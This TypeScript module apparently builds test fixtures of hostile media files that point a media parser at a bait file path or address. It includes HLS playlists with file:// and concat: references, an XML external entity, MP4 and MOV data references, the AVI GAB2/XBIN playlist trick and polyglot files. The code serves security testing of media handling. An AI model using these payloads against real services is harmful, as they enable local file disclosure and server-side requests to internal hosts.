import { clip } from "../../fixtures/hostile-media.ts";
import type { Bait, HostileFile } from "../hostile-file.ts";
import { avi, chunk, list } from "../writers/avi.ts";
import { ascii, join, le16, le32, u8, u16, u32, zeros } from "../writers/bytes.ts";
import { ebml, id, mkv } from "../writers/matroska.ts";
import { box, full, mp4 } from "../writers/mp4.ts";

const text = (name: string, of: (bait: Bait) => string): HostileFile => ({
  name: `reference: ${name}`,
  make: (bait) => Buffer.from(of(bait)),
});

const playlist = (uri: string): string =>
  `#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:4.0,\n${uri}\n#EXT-X-ENDLIST\n`;

/** A data reference of `url ` (ISO/IEC 14496-12 §8.7.2) or of an alias record (QuickTime File Format). */
const references = (entry: Uint8Array): Buffer => full("dref", 0, 0, u32(1), entry);

const alias = (path: string): Buffer => {
  const name = Buffer.from(path).subarray(0, 63);
  return full(
    "alis",
    0,
    0,
    u32(0),
    u16(150),
    u16(2),
    u16(0),
    u8(1),
    ascii("x"),
    zeros(26),
    zeros(4),
    u16(0),
    u8(name.length),
    name,
    zeros(63 - name.length),
    zeros(20),
    u16(2),
    u16(path.length),
    Buffer.from(path),
    zeros(path.length % 2),
    u16(18),
    u16(path.length),
    Buffer.from(path),
    zeros(path.length % 2),
    u16(0xffff),
    u16(0),
  );
};

const film = async (options: Parameters<typeof mp4>[1]): Promise<Buffer> =>
  mp4(Array(6).fill(await clip("small.jpg")), options);

/** A movie that is nothing but a reference to another (QuickTime File Format, reference movies). */
const referenceMovie = (target: string): Buffer =>
  join(
    box("ftyp", ascii("qt  "), u32(0)),
    box(
      "moov",
      box(
        "rmra",
        box(
          "rmda",
          full("rdrf", 0, 0, ascii("url "), u32(target.length + 1), ascii(target), u8(0)),
        ),
      ),
    ),
  );

/** GAB2 in an AVI (subtitles as a stream of their own), with a playlist in it: the trick of 2017. */
const gab2 = async (inside: string): Promise<Buffer> => {
  const subtitles = join(
    ascii("GAB2"),
    u8(0),
    le16(2),
    le32(0),
    le16(4),
    le32(inside.length),
    ascii(inside),
  );
  const stream = list(
    "strl",
    chunk("strh", ascii("txts"), zeros(16), le32(1), le32(10), zeros(4), le32(1), zeros(20)),
    chunk("strf"),
    zeros(0),
  );
  return avi(Array(6).fill(await clip("small.jpg")), {
    streams: 2,
    moreStreams: stream,
    inMovie: chunk("01tx", subtitles),
  });
};

/** XBIN text pictures begin so; FFmpeg once took lines of a playlist out of them. */
const xbin = (inside: string): string => `XBIN\x1a \x0f\0\x10\x04${inside}`;

const sidecars = (bait: Bait): readonly (readonly [string, string])[] => [
  ["an HLS playlist that names a file", playlist(bait.path)],
  ["an HLS playlist that names a file by URL", playlist(`file://${bait.path}`)],
  ["an HLS playlist that names an address", playlist(bait.url)],
  ["an HLS playlist of a concatenation", playlist(`concat:${bait.path}|${bait.path}`)],
  [
    "an HLS playlist with a key in a file",
    `#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXT-X-KEY:METHOD=AES-128,URI="${bait.path}"\n#EXTINF:4,\n${bait.url}\n`,
  ],
  [
    "an HLS playlist with a header in a file",
    `#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXT-X-MAP:URI="${bait.path}"\n#EXTINF:4,\n${bait.path}\n`,
  ],
  ["an HLS master playlist", `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${bait.url}\n`],
  ["an HLS playlist over subfile and crypto", playlist(`subfile,,start,0,end,64,,:${bait.path}`)],
  ["an HLS playlist of data", playlist("data:video/mp4;base64,AAAA")],
  ["a concatenation script", `ffconcat version 1.0\nfile '${bait.path}'\n`],
  ["a concatenation script with an address", `ffconcat version 1.0\nfile ${bait.url}\n`],
  [
    "an SDP session",
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 ${bait.host.split(":")[0]}\nt=0 0\nm=video ${bait.host.split(":")[1]} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
  ],
  [
    "a DASH manifest",
    `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet><Representation id="0" bandwidth="1" mimeType="video/mp4"><BaseURL>${bait.url}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
  ],
  [
    "a Smooth Streaming manifest",
    `<SmoothStreamingMedia><StreamIndex Url="${bait.url}"/></SmoothStreamingMedia>`,
  ],
  ["an ASX list", `<asx version="3.0"><entry><ref href="${bait.url}"/></entry></asx>`],
  ["a PLS list", `[playlist]\nFile1=${bait.url}\nNumberOfEntries=1\n`],
  [
    "an XSPF list",
    `<?xml version="1.0"?><playlist><trackList><track><location>file://${bait.path}</location></track></trackList></playlist>`,
  ],
  ["a SMIL document", `<smil><body><video src="${bait.url}"/></body></smil>`],
  [
    "an SVG picture with a file in it",
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file://${bait.path}"/></svg>`,
  ],
  [
    "XML with an external entity",
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://${bait.path}">]><MPD>&e;</MPD>`,
  ],
  ["an RTSP redirect", `RTSPtext\n${bait.url}\n`],
  ["a Windows Media redirector", `[Reference]\nRef1=${bait.url}\n`],
  ["an AviSynth script", `AviSource("${bait.path}")\n`],
  ["a VapourSynth script", `import vapoursynth\nopen("${bait.path}")\n`],
  ["a Blu-ray address", `bluray:${bait.path}`],
  ["a cue sheet", `FILE "${bait.path}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`],
  [
    "an index of VobSub",
    `# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n`,
  ],
  ["FFmpeg's metadata", `;FFMETADATA1\ntitle=${bait.path}\n`],
  ["an XBIN picture with a playlist", xbin(playlist(`concat:${bait.url}|file://${bait.path}`))],
  [
    "WebVTT that imports",
    `WEBVTT\n\nSTYLE\n@import url("${bait.url}");\n\n00:00.000 --> 00:01.000\nx\n`,
  ],
];

const NO_BAIT: Bait = { path: "", url: "", host: "127.0.0.1:1" };

/** Files that point at another file or an address. */
export const referenceFiles: readonly HostileFile[] = [
  ...sidecars(NO_BAIT).map(([name], index) =>
    text(name, (bait) => sidecars(bait)[index]?.[1] ?? ""),
  ),
  {
    name: "reference: MP4 whose samples lie in another file",
    make: (bait) =>
      film({ dref: references(full("url ", 0, 0, ascii(`file://${bait.path}`), u8(0))) }),
  },
  {
    name: "reference: MP4 whose samples lie at an address",
    make: (bait) => film({ dref: references(full("url ", 0, 0, ascii(bait.url), u8(0))) }),
  },
  {
    name: "reference: MOV whose samples lie behind an alias",
    make: (bait) => film({ brand: "qt  ", dref: references(alias(bait.path)) }),
  },
  {
    name: "reference: MP4 with a name for its samples",
    make: (bait) =>
      film({ dref: references(full("urn ", 0, 0, ascii("x"), u8(0), ascii(bait.path), u8(0))) }),
  },
  {
    name: "reference: a movie that is another file",
    make: (bait) => referenceMovie(`file://${bait.path}`),
  },
  { name: "reference: a movie that is an address", make: (bait) => referenceMovie(bait.url) },
  {
    name: "reference: AVI with a playlist in GAB2",
    make: (bait) => gab2(playlist(`file://${bait.path}`)),
  },
  {
    name: "reference: AVI with a playlist of XBIN in GAB2",
    make: (bait) => gab2(playlist(`concat:${bait.url}|file://${bait.path}`)),
  },
  {
    name: "reference: a playlist behind an MP4",
    make: async (bait) => join(await film({}), Buffer.from(playlist(bait.path))),
  },
  {
    name: "reference: an MP4 behind a playlist",
    make: async (bait) => join(Buffer.from(playlist(bait.path)), await film({})),
  },
  {
    name: "reference: a playlist in an MP4's free box",
    make: async (bait) =>
      join(
        box("ftyp", ascii("isom"), u32(0)),
        box("free", Buffer.from(playlist(bait.url))),
        await film({}),
      ),
  },
  {
    name: "reference: a zip behind an MP4",
    make: async () =>
      join(await film({}), ascii("PK\x03\x04"), zeros(60), ascii("PK\x05\x06"), zeros(18)),
  },
  {
    name: "reference: a page before an MP4",
    make: async () => join(ascii("<!DOCTYPE html><script>alert(1)</script>"), await film({})),
  },
  {
    name: "reference: Matroska that names the next file",
    make: async (bait) =>
      mkv(Array(6).fill(await clip("small.jpg")), {
        info: join(ebml(id.next, Buffer.from(bait.path)), ebml(id.nextUid, zeros(16))),
      }),
  },
  {
    name: "reference: Matroska with a playlist as text",
    make: async (bait) =>
      mkv(Array(6).fill(await clip("small.jpg")), {
        after: ebml(id.tags, Buffer.from(playlist(bait.path))),
      }),
  },
];
